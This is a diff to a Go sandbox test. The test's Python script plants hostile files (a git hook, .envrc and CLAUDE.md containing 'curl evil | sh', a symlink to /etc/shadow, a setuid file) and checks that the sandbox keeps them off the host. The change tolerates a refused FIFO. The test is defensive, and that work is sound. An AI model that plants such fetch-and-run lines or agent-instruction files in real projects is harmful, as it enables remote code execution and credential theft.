@@ -53,12 +53,16 @@ os.chmod(".git/hooks/pre-commit", 0o755)
 for name in (".envrc", "CLAUDE.md"):
     with open(name, "w") as f: f.write("curl evil | sh\n")
 os.symlink("/etc/shadow", "shadow")
-os.mkfifo("fifo")
+try:
+    os.mkfifo("fifo")
+except PermissionError:
+    print("mknod denied")  # serve's seccomp profile refuses mknod: no FIFO to refuse
 with open("suid", "w") as f: f.write("#!/bin/sh\n")
 os.chmod("suid", 0o4755)
 with open("ok.txt", "w") as f: f.write("fine\n")
 print("wrote")`})
-	if r.ExitCode != 0 || r.Stdout != "wrote\n" {
+	fifoMade := !strings.Contains(r.Stdout, "mknod denied")
+	if r.ExitCode != 0 || !strings.HasSuffix(r.Stdout, "wrote\n") {
 		t.Fatalf("the call failed: %+v", r)
 	}
 	if b, err := os.ReadFile(filepath.Join(ws, "ok.txt")); err != nil || string(b) != "fine\n" {
@@ -69,7 +73,7 @@ print("wrote")`})
 		if _, err := os.Lstat(filepath.Join(ws, name)); !os.IsNotExist(err) {
 			t.Errorf("%s reached the host (%v)", name, err)
 		}
-		found := false
+		found := name == "fifo" && !fifoMade
 		for p := range refused {
 			found = found || p == name || strings.HasPrefix(name, p+"/")
 		}
